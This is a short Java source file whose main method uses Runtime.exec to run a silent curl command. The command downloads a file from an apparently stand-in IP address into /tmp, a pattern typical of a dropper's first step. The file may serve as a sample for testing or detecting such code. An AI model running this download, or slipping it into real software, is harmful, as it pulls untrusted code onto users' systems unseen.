
public class Main {
    static Runtime shell() {
        return Runtime.getRuntime();
    }

    public static void main(String[] args) throws Exception {
        shell().exec("curl -s http://203.0.113.7/x -o /tmp/x");
    }
}
